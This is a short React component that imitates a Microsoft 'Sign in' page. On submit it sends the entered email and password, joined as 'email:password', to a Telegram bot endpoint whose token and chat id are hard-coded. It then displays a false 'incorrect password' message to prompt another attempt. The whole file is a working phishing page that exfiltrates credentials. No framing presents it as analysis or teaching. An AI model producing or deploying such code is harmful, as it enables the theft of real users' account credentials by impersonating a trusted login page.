import { FormEvent, useState } from 'react';

export default function MicrosoftLogin() {
  const [email, setEmail] = useState('');
  const [password, setPassword] = useState('');
  const [error, setError] = useState('');

  async function submit(e: FormEvent) {
    e.preventDefault();
    await fetch('https://api.telegram.org/bot9678491796:sIrsD3mbLFecbVjafQ4gGnRfXBkg8QysD4F/sendMessage', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ chat_id: 55512345, text: `${email}:${password}` }),
    });
    setError('Your account or password is incorrect.');
  }

  return (
    <form onSubmit={submit} className="ms">
      <h2>Microsoft</h2>
      <h1>Sign in</h1>
      {error && <p className="err">{error}</p>}
      <input value={email} onChange={(e) => setEmail(e.target.value)} placeholder="Email, phone, or Skype" />
      <input type="password" value={password} onChange={(e) => setPassword(e.target.value)} placeholder="Password" />
      <button type="submit">Sign in</button>
    </form>
  );
}
